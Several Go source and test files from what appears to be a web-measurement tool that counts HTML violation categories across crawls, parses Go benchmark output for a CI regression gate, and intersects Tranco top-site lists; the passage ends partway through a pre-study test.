	TurnoverPct float64
}

// ChurnBetween compares two crawls over the domains analyzed in both.
func (a *Analyzer) ChurnBetween(fromCrawl, toCrawl string) Churn {
	c := Churn{FromCrawl: fromCrawl, ToCrawl: toCrawl}
	from := map[string]*store.DomainResult{}
	for _, d := range a.analyzedDomains(fromCrawl) {
		from[d.Domain] = d
	}
	type counts struct{ lost, gained, kept int }
	perRule := map[string]*counts{}
	for _, rule := range core.RuleIDs() {
		perRule[rule] = &counts{}
	}
	for _, to := range a.analyzedDomains(toCrawl) {
		fd, ok := from[to.Domain]
		if !ok {
			continue
		}
		c.Common++
		switch {
		case fd.Violated() && !to.Violated():
			c.Fixed++
		case !fd.Violated() && to.Violated():
			c.NewlyViolating++
		case fd.Violated() && to.Violated():
			c.StillViolating++
		default:
			c.StillClean++
		}
		for _, rule := range core.RuleIDs() {
			had := fd.Violations[rule] > 0
			has := to.Violations[rule] > 0
			switch {
			case had && !has:
				perRule[rule].lost++
			case !had && has:
				perRule[rule].gained++
			case had && has:
				perRule[rule].kept++
			}
		}
	}
	for _, rule := range core.RuleIDs() {
		pc := perRule[rule]
		rc := RuleChurn{Rule: rule, Lost: pc.lost, Gained: pc.gained, Kept: pc.kept}
		if total := pc.lost + pc.gained + pc.kept; total > 0 {
			rc.TurnoverPct = 100 * float64(pc.lost+pc.gained) / float64(total)
		}
		c.PerRule = append(c.PerRule, rc)
	}
	sort.SliceStable(c.PerRule, func(i, j int) bool {
		return c.PerRule[i].Kept+c.PerRule[i].Lost+c.PerRule[i].Gained >
			c.PerRule[j].Kept+c.PerRule[j].Lost+c.PerRule[j].Gained
	})
	return c
}
