package analysis

import (
	"math"
	"testing"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// handStore builds a small store with known contents:
//
//	crawl c1: a(FB2,DM3) b(HF4) c(clean) d(unanalyzed)
//	crawl c2: a(FB2) b(clean) c(DE1) e(DM3)
func handStore() *store.Store {
	st := store.New()
	put := func(crawl, domain string, analyzed int, v map[string]int, sig map[string]int) {
		st.Put(&store.DomainResult{
			Crawl: crawl, Domain: domain,
			PagesFound: analyzed + 1, PagesAnalyzed: analyzed,
			Violations: v, Signals: sig,
		})
	}
	put("c1", "a", 5, map[string]int{"FB2": 2, "DM3": 1}, map[string]int{store.SignalNewlineURL: 1})
	put("c1", "b", 5, map[string]int{"HF4": 1}, nil)
	put("c1", "c", 5, nil, map[string]int{store.SignalUsesMath: 2})
	put("c1", "d", 0, nil, nil)
	put("c2", "a", 5, map[string]int{"FB2": 1}, nil)
	put("c2", "b", 5, nil, nil)
	put("c2", "c", 5, map[string]int{"DE1": 1}, map[string]int{store.SignalNewlineLtURL: 1})
	put("c2", "e", 5, map[string]int{"DM3": 3}, nil)
	return st
}

func almost(a, b float64) bool { return math.Abs(a-b) < 0.01 }

func TestYearlyViolating(t *testing.T) {
	a := New(handStore())
	series := a.YearlyViolating()
	if len(series) != 2 {
		t.Fatalf("series = %v", series)
	}
	// c1: 3 analyzed (d is not), 2 violating.
	if series[0].Analyzed != 3 || series[0].Count != 2 || !almost(series[0].Pct, 66.6667) {
		t.Fatalf("c1 = %+v", series[0])
	}
	// c2: 4 analyzed, 3 violating.
	if series[1].Analyzed != 4 || series[1].Count != 3 || !almost(series[1].Pct, 75) {
		t.Fatalf("c2 = %+v", series[1])
	}
}

func TestDistributionAndUnion(t *testing.T) {
	a := New(handStore())
	total, dist := a.Distribution()
	// Domains analyzed at least once: a, b, c, e (d never analyzed).
	if total != 4 {
		t.Fatalf("total = %d", total)
	}
	if dist["FB2"].Count != 1 || !almost(dist["FB2"].Pct, 25) {
		t.Fatalf("FB2 = %+v", dist["FB2"])
	}
	if dist["DM3"].Count != 2 { // a (c1) and e (c2)
		t.Fatalf("DM3 = %+v", dist["DM3"])
	}
	if dist["DE1"].Count != 1 || dist["HF5_3"].Count != 0 {
		t.Fatalf("DE1/HF5_3 = %+v %+v", dist["DE1"], dist["HF5_3"])
	}
	u := a.UnionViolating()
	// Violating ever: a, b, c, e — all 4 (c violates DE1 in c2).
	if u.Count != 4 || !almost(u.Pct, 100) {
		t.Fatalf("union = %+v", u)
	}
}

func TestGroupTrends(t *testing.T) {
	a := New(handStore())
	trends := a.GroupTrends()
	fb := trends[core.FilterBypass]
	if len(fb) != 2 || fb[0].Count != 1 || fb[1].Count != 1 {
		t.Fatalf("FB = %v", fb)
	}
	de := trends[core.DataExfiltration]
	if de[0].Count != 0 || de[1].Count != 1 {
		t.Fatalf("DE = %v", de)
	}
	dm := trends[core.DataManipulation]
	if dm[0].Count != 1 || dm[1].Count != 1 {
		t.Fatalf("DM = %v", dm)
	}
}

func TestRuleTrends(t *testing.T) {
	a := New(handStore())
	trends := a.RuleTrends("FB2", "HF4")
	if len(trends) != 2 {
		t.Fatalf("trends = %v", trends)
	}
	if trends["HF4"][0].Count != 1 || trends["HF4"][1].Count != 0 {
		t.Fatalf("HF4 = %v", trends["HF4"])
	}
}

func TestFixability(t *testing.T) {
	a := New(handStore())
	// c2: violating a(FB2 — fixable), c(DE1 — not), e(DM3 — fixable).
	f := a.FixabilityFor("c2")
	if f.Analyzed != 4 || f.Violating != 3 || f.OnlyAutoFixable != 2 {
		t.Fatalf("fixability = %+v", f)
	}
	if !almost(f.FixableOfViolPct, 66.6667) || !almost(f.RemainingPct, 25) {
		t.Fatalf("pcts = %+v", f)
	}
	if a.LatestCrawl() != "c2" {
		t.Fatalf("latest = %q", a.LatestCrawl())
	}
}

func TestMitigations(t *testing.T) {
	a := New(handStore())
	ms := a.Mitigations()
	if len(ms) != 2 {
		t.Fatalf("ms = %v", ms)
	}
	if ms[0].NewlineURL.Count != 1 || ms[0].NewlineLtURL.Count != 0 {
		t.Fatalf("c1 = %+v", ms[0])
	}
	// The newline+'<' domain also counts in the newline-in-URL superset.
	if ms[1].NewlineLtURL.Count != 1 || ms[1].NewlineURL.Count != 1 {
		t.Fatalf("c2 = %+v", ms[1])
	}
	if ms[0].MathDomains != 1 || ms[1].MathDomains != 0 {
		t.Fatalf("math = %d %d", ms[0].MathDomains, ms[1].MathDomains)
	}
}

func TestTable2(t *testing.T) {
	rows := Table2([]store.CrawlStats{
		{Crawl: "c2", Found: 10, Analyzed: 9, PagesAnalyzed: 81},
		{Crawl: "c1", Found: 10, Analyzed: 8, PagesAnalyzed: 40},
	})
	if len(rows) != 2 || rows[0].Crawl != "c1" {
		t.Fatalf("rows = %v", rows)
	}
	if !almost(rows[0].SuccessPct, 80) || !almost(rows[0].AvgPages, 5) {
		t.Fatalf("row c1 = %+v", rows[0])
	}
	if !almost(rows[1].AvgPages, 9) {
		t.Fatalf("row c2 = %+v", rows[1])
	}
}

// TestPaperConstantsConsistent cross-checks the transcribed paper data.
func TestPaperConstantsConsistent(t *testing.T) {
	if len(PaperFigure9) != 8 || len(PaperYears) != 8 || len(PaperTable2) != 8 {
		t.Fatal("series lengths wrong")
	}
	if len(PaperFigure8Order) != 20 {
		t.Fatalf("figure 8 order has %d rules", len(PaperFigure8Order))
	}
	seen := map[string]bool{}
	last := 101.0
	for _, id := range PaperFigure8Order {
		v, ok := PaperFigure8[id]
		if !ok {
			t.Fatalf("rule %s missing from PaperFigure8", id)
		}
		if v > last {
			t.Fatalf("figure 8 order not descending at %s", id)
		}
		last = v
		seen[id] = true
		if _, ok := core.RuleByID(id); !ok {
			t.Fatalf("paper rule %s not in catalogue", id)
		}
	}
	for _, id := range core.RuleIDs() {
		if !seen[id] {
			t.Fatalf("catalogue rule %s missing from paper data", id)
		}
		if len(PaperRuleTrends[id]) != 8 {
			t.Fatalf("trend series for %s has wrong length", id)
		}
	}
	covered := map[string]bool{}
	for _, f := range AppendixFigures {
		for _, r := range f.Rules {
			covered[r] = true
		}
	}
	for _, id := range core.RuleIDs() {
		if !covered[id] {
			t.Fatalf("rule %s not plotted in any appendix figure", id)
		}
	}
}
