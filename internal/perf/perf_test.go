package perf

import (
	"strings"
	"testing"
)

// event wraps a benchmark output line as one test2json event.
func event(output string) string {
	return `{"Action":"output","Package":"p","Output":"` + output + `\n"}`
}

func TestParseTestJSON(t *testing.T) {
	in := strings.Join([]string{
		`{"Action":"start","Package":"p"}`,
		event(`goos: linux`),
		event(`BenchmarkParse/typical-8   \t     100\t  11850934 ns/op\t  20.44 MB/s\t 2913403 B/op\t 2049 allocs/op`),
		event(`BenchmarkTokenize/small-8  \t   10000\t     16974 ns/op\t  53.21 MB/s`),
		event(`PASS`),
		`{"Action":"pass","Package":"p"}`,
	}, "\n")
	run, err := ParseTestJSON(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(run.Benchmarks) != 2 {
		t.Fatalf("got %d benchmarks, want 2: %v", len(run.Benchmarks), run.Names())
	}
	m, ok := run.Benchmarks["BenchmarkParse/typical"]
	if !ok {
		t.Fatalf("missing BenchmarkParse/typical (proc suffix not stripped?): %v", run.Names())
	}
	if m.NsPerOp != 11850934 || m.MBPerSec != 20.44 || m.BytesPerOp != 2913403 || m.AllocsPerOp != 2049 || m.Iterations != 100 {
		t.Fatalf("wrong metrics: %+v", m)
	}
	if m := run.Benchmarks["BenchmarkTokenize/small"]; m.AllocsPerOp != 0 {
		t.Fatalf("allocs should be absent (0), got %+v", m)
	}
}

// TestParseTestJSONMalformedLines checks the parser shrugs off non-JSON
// lines, truncated events and benchmark-shaped garbage instead of failing
// the whole run.
func TestParseTestJSONMalformedLines(t *testing.T) {
	in := strings.Join([]string{
		`not json at all`,
		`{"Action":"output","Output":`, // truncated JSON
		`{"Action":"output"`,
		event(`BenchmarkBroken-8 notanumber 5 ns/op`),     // bad iteration count
		event(`BenchmarkBroken2-8 10 notanumber ns/op`),   // bad value
		event(`BenchmarkNoNs-8 10 5.0 MB/s`),              // missing ns/op
		event(`BenchmarkOK-8 50 2000 ns/op`),              // the one good line
		`{"Action":"output","Output":"BenchmarkSplit-8"}`, // too few fields
	}, "\n")
	run, err := ParseTestJSON(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(run.Benchmarks) != 1 {
		t.Fatalf("got %v, want only BenchmarkOK", run.Names())
	}
	if m := run.Benchmarks["BenchmarkOK"]; m.NsPerOp != 2000 {
		t.Fatalf("wrong metrics: %+v", m)
	}
}

// TestParseTestJSONSplitEvents: go test prints a benchmark's name before
// running it and the timing afterwards, so test2json delivers one result
// line as multiple output events. The parser must stitch them back
// together — and keep packages' interleaved streams separate.
func TestParseTestJSONSplitEvents(t *testing.T) {
	in := strings.Join([]string{
		`{"Action":"output","Package":"a","Output":"BenchmarkSplit/typical-8         \t"}`,
		`{"Action":"output","Package":"b","Output":"BenchmarkOther-8 10 99 ns/op\n"}`,
		`{"Action":"output","Package":"a","Output":"     100\t  11850934 ns/op\t  20.44 MB/s\n"}`,
	}, "\n")
	run, err := ParseTestJSON(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	m, ok := run.Benchmarks["BenchmarkSplit/typical"]
	if !ok || m.NsPerOp != 11850934 || m.MBPerSec != 20.44 {
		t.Fatalf("split result not reassembled: %v / %+v", run.Names(), m)
	}
	if m := run.Benchmarks["BenchmarkOther"]; m.NsPerOp != 99 {
		t.Fatalf("package streams mixed: %+v", m)
	}
}

func TestParseTestJSONEmpty(t *testing.T) {
	if _, err := ParseTestJSON(strings.NewReader(`{"Action":"pass"}`)); err == nil {
		t.Fatal("want error for stream with no benchmark results")
	}
}

// TestParseTestJSONMinOfN: with -count=N the same benchmark repeats; the
// recorded value must be the fastest run, not the last one.
func TestParseTestJSONMinOfN(t *testing.T) {
	in := strings.Join([]string{
		event(`BenchmarkX-8 100 3000 ns/op`),
		event(`BenchmarkX-8 100 2000 ns/op`),
		event(`BenchmarkX-8 100 2500 ns/op`),
	}, "\n")
	run, err := ParseTestJSON(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if m := run.Benchmarks["BenchmarkX"]; m.NsPerOp != 2000 {
		t.Fatalf("want min-of-N 2000 ns/op, got %+v", m)
	}
}

func TestTrimProcSuffix(t *testing.T) {
	cases := map[string]string{
		"BenchmarkParse-8":            "BenchmarkParse",
		"BenchmarkParse/typical-16":   "BenchmarkParse/typical",
		"BenchmarkParse/no-suffix":    "BenchmarkParse/no-suffix",
		"BenchmarkParse/dash-2-cpu-4": "BenchmarkParse/dash-2-cpu",
		"BenchmarkPlain":              "BenchmarkPlain",
	}
	for in, want := range cases {
		if got := trimProcSuffix(in); got != want {
			t.Errorf("trimProcSuffix(%q) = %q, want %q", in, got, want)
		}
	}
}

func run1(name string, ns float64) *Run {
	return &Run{Benchmarks: map[string]Metrics{name: {NsPerOp: ns, Iterations: 1}}}
}

// TestCompareToleranceEdges pins the gate boundary: exactly at tolerance
// passes, epsilon beyond fails, and the same applies on the improvement
// side for the "faster" verdict.
func TestCompareToleranceEdges(t *testing.T) {
	base := run1("BenchmarkX", 1000)
	cases := []struct {
		ns   float64
		want Verdict
	}{
		{1100, OK}, // exactly +10%: within tolerance
		{1100.01, Regression},
		{1099, OK},
		{900, OK}, // exactly -10%: not yet "faster"
		{899.9, Faster},
		{1000, OK},
	}
	for _, c := range cases {
		d := Compare(base, run1("BenchmarkX", c.ns), 0.10)
		if len(d.Deltas) != 1 || d.Deltas[0].Verdict != c.want {
			t.Errorf("ns=%v: got %v, want %v", c.ns, d.Deltas[0].Verdict, c.want)
		}
		wantFail := c.want == Regression
		if gotFail := len(d.Failures()) > 0; gotFail != wantFail {
			t.Errorf("ns=%v: Failures() = %v, want fail=%v", c.ns, d.Failures(), wantFail)
		}
	}
}

// TestCompareOneSided covers benchmarks present in only one run: vanishing
// from the baseline is a gate failure, appearing fresh is informational.
func TestCompareOneSided(t *testing.T) {
	base := &Run{Benchmarks: map[string]Metrics{
		"BenchmarkKept": {NsPerOp: 100},
		"BenchmarkGone": {NsPerOp: 100},
	}}
	cur := &Run{Benchmarks: map[string]Metrics{
		"BenchmarkKept": {NsPerOp: 100},
		"BenchmarkNew":  {NsPerOp: 100},
	}}
	d := Compare(base, cur, 0.10)
	verdicts := map[string]Verdict{}
	for _, dl := range d.Deltas {
		verdicts[dl.Name] = dl.Verdict
	}
	want := map[string]Verdict{"BenchmarkKept": OK, "BenchmarkGone": Missing, "BenchmarkNew": Added}
	for name, v := range want {
		if verdicts[name] != v {
			t.Errorf("%s: got %v, want %v", name, verdicts[name], v)
		}
	}
	fails := d.Failures()
	if len(fails) != 1 || fails[0].Name != "BenchmarkGone" {
		t.Fatalf("Failures() = %v, want only BenchmarkGone", fails)
	}
}

// TestMarkdownGolden pins the exact rendered table so the CI summary
// format changes deliberately, not by accident.
func TestMarkdownGolden(t *testing.T) {
	base := &Run{Benchmarks: map[string]Metrics{
		"BenchmarkParse/typical": {NsPerOp: 18000000, MBPerSec: 13.40, AllocsPerOp: 17225},
		"BenchmarkGone":          {NsPerOp: 500},
	}}
	cur := &Run{Benchmarks: map[string]Metrics{
		"BenchmarkParse/typical": {NsPerOp: 11850934, MBPerSec: 20.44, AllocsPerOp: 2049},
		"BenchmarkNew":           {NsPerOp: 750, MBPerSec: 1.25},
	}}
	got := Compare(base, cur, 0.10).Markdown()
	want := strings.Join([]string{
		"| benchmark | old ns/op | new ns/op | delta | MB/s | allocs/op | verdict |",
		"|---|---:|---:|---:|---:|---:|---|",
		"| BenchmarkGone | 500 | — | — | — | — | missing |",
		"| BenchmarkParse/typical | 18000000 | 11850934 | -34.2% | 13.40 → 20.44 | 17225 → 2049 | faster |",
		"| BenchmarkNew | — | 750 | — | 1.25 | — | added |",
		"",
	}, "\n")
	if got != want {
		t.Fatalf("markdown table drifted\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}
}
