package perf

import (
	"fmt"
	"strings"
)

// Verdict classifies one benchmark's movement between two runs.
type Verdict string

const (
	// OK: within tolerance (including any speedup below the threshold).
	OK Verdict = "ok"
	// Faster: improved by more than the tolerance.
	Faster Verdict = "faster"
	// Regression: ns/op grew by more than the tolerance.
	Regression Verdict = "regression"
	// Missing: present in the baseline but absent from the new run — a
	// silently deleted benchmark would otherwise let a regression hide.
	Missing Verdict = "missing"
	// Added: present only in the new run; informational, never a failure.
	Added Verdict = "added"
)

// Delta is the comparison of one benchmark across two runs.
type Delta struct {
	Name    string
	Old     Metrics
	New     Metrics
	Ratio   float64 // new ns/op divided by old ns/op; 0 when one side is missing
	Verdict Verdict
}

// Diff is the full comparison of a new run against a baseline.
type Diff struct {
	Tolerance float64
	Deltas    []Delta
}

// Compare diffs a new run against a baseline with the given relative
// tolerance on ns/op (0.10 = fail beyond +10%). Benchmarks are matched by
// name; baseline benchmarks missing from the new run are failures,
// benchmarks new to this run are reported but never fail the gate.
func Compare(baseline, current *Run, tolerance float64) *Diff {
	d := &Diff{Tolerance: tolerance}
	for _, name := range baseline.Names() {
		old := baseline.Benchmarks[name]
		cur, ok := current.Benchmarks[name]
		if !ok {
			d.Deltas = append(d.Deltas, Delta{Name: name, Old: old, Verdict: Missing})
			continue
		}
		ratio := cur.NsPerOp / old.NsPerOp
		v := OK
		switch {
		case ratio > 1+tolerance:
			v = Regression
		case ratio < 1-tolerance:
			v = Faster
		}
		d.Deltas = append(d.Deltas, Delta{Name: name, Old: old, New: cur, Ratio: ratio, Verdict: v})
	}
	for _, name := range current.Names() {
		if _, ok := baseline.Benchmarks[name]; !ok {
			d.Deltas = append(d.Deltas, Delta{Name: name, New: current.Benchmarks[name], Verdict: Added})
		}
	}
	return d
}

// Failures returns the deltas that should fail a gate: regressions beyond
// tolerance and benchmarks that vanished relative to the baseline.
func (d *Diff) Failures() []Delta {
	var out []Delta
	for _, dl := range d.Deltas {
		if dl.Verdict == Regression || dl.Verdict == Missing {
			out = append(out, dl)
		}
	}
	return out
}

// Markdown renders the comparison as a GitHub-flavored markdown table,
// suitable for $GITHUB_STEP_SUMMARY. Percentages are relative ns/op
// movement; negative is faster.
func (d *Diff) Markdown() string {
	var b strings.Builder
	fmt.Fprintf(&b, "| benchmark | old ns/op | new ns/op | delta | MB/s | allocs/op | verdict |\n")
	fmt.Fprintf(&b, "|---|---:|---:|---:|---:|---:|---|\n")
	for _, dl := range d.Deltas {
		fmt.Fprintf(&b, "| %s | %s | %s | %s | %s | %s | %s |\n",
			dl.Name,
			cellNs(dl.Old), cellNs(dl.New),
			cellDelta(dl),
			cellPair(dl.Old.MBPerSec, dl.New.MBPerSec, "%.2f"),
			cellPair(dl.Old.AllocsPerOp, dl.New.AllocsPerOp, "%.0f"),
			string(dl.Verdict))
	}
	return b.String()
}

func cellNs(m Metrics) string {
	if m.NsPerOp == 0 {
		return "—"
	}
	return fmt.Sprintf("%.0f", m.NsPerOp)
}

func cellDelta(dl Delta) string {
	if dl.Ratio == 0 {
		return "—"
	}
	return fmt.Sprintf("%+.1f%%", (dl.Ratio-1)*100)
}

// cellPair renders "old → new" for a secondary metric, collapsing to one
// value when only one side reported it.
func cellPair(old, cur float64, format string) string {
	switch {
	case old == 0 && cur == 0:
		return "—"
	case old == 0:
		return fmt.Sprintf(format, cur)
	case cur == 0:
		return fmt.Sprintf(format, old)
	}
	return fmt.Sprintf(format+" → "+format, old, cur)
}
