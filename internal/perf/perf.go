// Package perf turns `go test -json -bench` output into a stable,
// diffable schema and renders regression reports. It is the library half
// of the benchmark trajectory: cmd/hvbench records runs as BENCH_*.json
// files and gates CI on the comparison against the checked-in baseline.
package perf

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// Metrics holds one benchmark's measured values. Zero-valued fields mean
// the benchmark did not report that unit (MB/s requires b.SetBytes,
// allocs requires b.ReportAllocs or -benchmem).
type Metrics struct {
	NsPerOp     float64 `json:"ns_per_op"`
	MBPerSec    float64 `json:"mb_per_sec,omitempty"`
	BytesPerOp  float64 `json:"bytes_per_op,omitempty"`
	AllocsPerOp float64 `json:"allocs_per_op,omitempty"`
	Iterations  int64   `json:"iterations"`
}

// Run is one recorded benchmark session. The provenance fields are
// stamped inside the payload (not the filename) so a run stays
// self-describing when copied around or checked in as the baseline.
type Run struct {
	GitSHA     string             `json:"git_sha,omitempty"`
	Date       string             `json:"date,omitempty"` // UTC, RFC 3339
	GoVersion  string             `json:"go_version,omitempty"`
	Benchmarks map[string]Metrics `json:"benchmarks"`
}

// Names returns the benchmark names in sorted order.
func (r *Run) Names() []string {
	names := make([]string, 0, len(r.Benchmarks))
	for n := range r.Benchmarks {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// testEvent is the subset of the `go test -json` event stream we consume.
type testEvent struct {
	Action  string `json:"Action"`
	Package string `json:"Package"`
	Output  string `json:"Output"`
}

// ParseTestJSON reads a `go test -json -bench` event stream and collects
// the benchmark result lines into a Run. Lines that are not valid JSON
// events are skipped (the stream is a log: build noise, PASS/ok trailers
// and panics interleave freely), as are output lines that are not
// benchmark results. When the same benchmark appears multiple times
// (-count=N), the fastest ns/op wins: min-of-N is the standard way to
// shave scheduler noise off a gate comparison.
//
// One benchmark result does NOT arrive as one event: go test prints the
// benchmark name before the run and the timing after, and test2json
// flushes each fragment as its own output event. The events are therefore
// re-joined into each package's raw output stream and parsed by text
// line, which is the only boundary go test guarantees.
func ParseTestJSON(r io.Reader) (*Run, error) {
	streams := map[string]*strings.Builder{}
	var order []string
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		var ev testEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			continue // not a test2json event; tolerate and move on
		}
		if ev.Action != "output" {
			continue
		}
		b, ok := streams[ev.Package]
		if !ok {
			b = &strings.Builder{}
			streams[ev.Package] = b
			order = append(order, ev.Package)
		}
		b.WriteString(ev.Output)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("perf: reading test output: %w", err)
	}
	run := &Run{Benchmarks: map[string]Metrics{}}
	for _, pkg := range order {
		for _, line := range strings.Split(streams[pkg].String(), "\n") {
			name, m, ok := parseBenchLine(line)
			if !ok {
				continue
			}
			if prev, seen := run.Benchmarks[name]; !seen || m.NsPerOp < prev.NsPerOp {
				run.Benchmarks[name] = m
			}
		}
	}
	if len(run.Benchmarks) == 0 {
		return nil, fmt.Errorf("perf: no benchmark results found in input")
	}
	return run, nil
}

// parseBenchLine parses one benchmark result line, e.g.
//
//	BenchmarkParse/typical-8   100   11850934 ns/op   20.44 MB/s   2049 allocs/op
//
// The trailing -N GOMAXPROCS suffix is stripped from the name so runs
// recorded on machines with different core counts stay comparable.
func parseBenchLine(s string) (string, Metrics, bool) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "Benchmark") {
		return "", Metrics{}, false
	}
	fields := strings.Fields(s)
	if len(fields) < 4 {
		return "", Metrics{}, false
	}
	name := trimProcSuffix(fields[0])
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return "", Metrics{}, false
	}
	m := Metrics{Iterations: iters}
	// The remainder alternates <value> <unit>.
	for i := 2; i+1 < len(fields); i += 2 {
		v, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return "", Metrics{}, false
		}
		switch fields[i+1] {
		case "ns/op":
			m.NsPerOp = v
		case "MB/s":
			m.MBPerSec = v
		case "B/op":
			m.BytesPerOp = v
		case "allocs/op":
			m.AllocsPerOp = v
		}
	}
	if m.NsPerOp == 0 {
		return "", Metrics{}, false
	}
	return name, m, true
}

// trimProcSuffix removes the "-8" style GOMAXPROCS suffix go test appends
// to benchmark names. Only a purely numeric final segment is removed, so
// sub-benchmark names containing dashes survive.
func trimProcSuffix(name string) string {
	i := strings.LastIndexByte(name, '-')
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}
