package tranco

import (
	"strings"
	"testing"
)

func mustParse(t *testing.T, id, csv string) *List {
	t.Helper()
	l, err := Parse(id, strings.NewReader(csv))
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func TestParse(t *testing.T) {
	l := mustParse(t, "L1", "2,b.example\n1,a.example\n\n# comment\n3,c.example\n")
	if len(l.Entries) != 3 {
		t.Fatalf("entries = %v", l.Entries)
	}
	// Sorted by rank.
	if l.Entries[0].Domain != "a.example" || l.Entries[2].Rank != 3 {
		t.Fatalf("order wrong: %v", l.Entries)
	}
	for _, bad := range []string{"x,y,z\nnotanumber,d\n", "norank\n"} {
		if _, err := Parse("bad", strings.NewReader(bad)); err == nil {
			t.Errorf("no error for %q", bad)
		}
	}
}

func TestWriteToRoundTrip(t *testing.T) {
	l := mustParse(t, "L", "1,a.example\n2,b.example\n")
	var b strings.Builder
	if _, err := l.WriteTo(&b); err != nil {
		t.Fatal(err)
	}
	l2 := mustParse(t, "L", b.String())
	if len(l2.Entries) != 2 || l2.Entries[1].Domain != "b.example" {
		t.Fatalf("round trip: %v", l2.Entries)
	}
}

func TestIntersectTop(t *testing.T) {
	// a and b are on all lists; trending is only on list 2; c is ranked
	// too low on list 3.
	l1 := mustParse(t, "1", "1,a.example\n2,b.example\n3,c.example\n")
	l2 := mustParse(t, "2", "1,trending.example\n2,a.example\n3,b.example\n4,c.example\n")
	l3 := mustParse(t, "3", "1,b.example\n2,a.example\n9,c.example\n")

	stable := IntersectTop([]*List{l1, l2, l3}, 5)
	if len(stable) != 2 {
		t.Fatalf("stable = %v", stable)
	}
	// Ordered by average rank: a = (1+2+2)/3 = 1.67, b = (2+3+1)/3 = 2.
	if stable[0].Domain != "a.example" || stable[1].Domain != "b.example" {
		t.Fatalf("order = %v", stable)
	}
	if got := AverageRank(stable); got < 1.5 || got > 2.2 {
		t.Fatalf("avg rank = %f", got)
	}
	if IntersectTop(nil, 5) != nil {
		t.Fatal("empty input should yield nil")
	}
}
