// Package tranco handles research-oriented top-site rankings in the style
// of the Tranco list (Le Pochat et al., NDSS '19). The paper's dataset
// derivation (§4.1) is implemented here: take the top N of every daily
// list, keep only domains present on all lists, and order them by average
// rank — which suppresses trending outliers over the study window.
package tranco

import (
	"bufio"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// Entry is one ranked domain.
type Entry struct {
	Rank   int
	Domain string
}

// List is a Tranco-style ranking, ordered by rank ascending.
type List struct {
	ID      string
	Entries []Entry
}

// Parse reads a CSV list of "rank,domain" lines.
func Parse(id string, r io.Reader) (*List, error) {
	l := &List{ID: id}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		rankStr, domain, ok := strings.Cut(line, ",")
		if !ok {
			return nil, fmt.Errorf("tranco: bad line %q", line)
		}
		rank, err := strconv.Atoi(strings.TrimSpace(rankStr))
		if err != nil {
			return nil, fmt.Errorf("tranco: bad rank in %q: %w", line, err)
		}
		l.Entries = append(l.Entries, Entry{Rank: rank, Domain: strings.TrimSpace(domain)})
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	sort.Slice(l.Entries, func(i, j int) bool { return l.Entries[i].Rank < l.Entries[j].Rank })
	return l, nil
}

// WriteTo serializes the list as CSV.
func (l *List) WriteTo(w io.Writer) (int64, error) {
	bw := bufio.NewWriter(w)
	var n int64
	for _, e := range l.Entries {
		m, err := fmt.Fprintf(bw, "%d,%s\n", e.Rank, e.Domain)
		n += int64(m)
		if err != nil {
			return n, err
		}
	}
	return n, bw.Flush()
}

// Top returns the entries with rank <= cutoff.
func (l *List) Top(cutoff int) []Entry {
	var out []Entry
	for _, e := range l.Entries {
		if e.Rank <= cutoff {
			out = append(out, e)
		}
	}
	return out
}

// StableEntry is a domain that survived the intersection, with its average
// rank across all lists.
type StableEntry struct {
	Domain  string
	AvgRank float64
}

// IntersectTop implements the paper's dataset rule: from every list take
// the domains ranked <= cutoff, keep only those appearing on *all* lists,
// and order the survivors by average rank. It returns the overall top list.
func IntersectTop(lists []*List, cutoff int) []StableEntry {
	if len(lists) == 0 {
		return nil
	}
	type acc struct {
		sum   int
		count int
	}
	ranks := make(map[string]*acc)
	for _, l := range lists {
		for _, e := range l.Top(cutoff) {
			a := ranks[e.Domain]
			if a == nil {
				a = &acc{}
				ranks[e.Domain] = a
			}
			a.sum += e.Rank
			a.count++
		}
	}
	var out []StableEntry
	for d, a := range ranks {
		if a.count == len(lists) {
			out = append(out, StableEntry{Domain: d, AvgRank: float64(a.sum) / float64(a.count)})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].AvgRank != out[j].AvgRank {
			return out[i].AvgRank < out[j].AvgRank
		}
		return out[i].Domain < out[j].Domain
	})
	return out
}

// AverageRank returns the mean of the entries' average ranks (the paper
// reports ~16,150 for its dataset as a stability check).
func AverageRank(entries []StableEntry) float64 {
	if len(entries) == 0 {
		return 0
	}
	var sum float64
	for _, e := range entries {
		sum += e.AvgRank
	}
	return sum / float64(len(entries))
}
