package prestudy

import (
	"testing"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

func TestDynamicPreStudy(t *testing.T) {
	g := corpus.New(corpus.Config{Seed: 22, Domains: 1000, MaxPages: 2})
	// July 2021 in the paper; the 2021 snapshot is the closest.
	res, err := RunDynamic(g, corpus.Snapshots[6], 1000)
	if err != nil {
		t.Fatal(err)
	}
	if res.Sites < 400 {
		t.Fatalf("only %d sites had dynamic content", res.Sites)
	}
	// Paper: "more than 60% of the websites have at least one violation"
	// in dynamically loaded content.
	if res.ViolatingPct < 55 || res.ViolatingPct > 85 {
		t.Fatalf("dynamic violating rate %.1f%%, want ~60-80%%", res.ViolatingPct)
	}
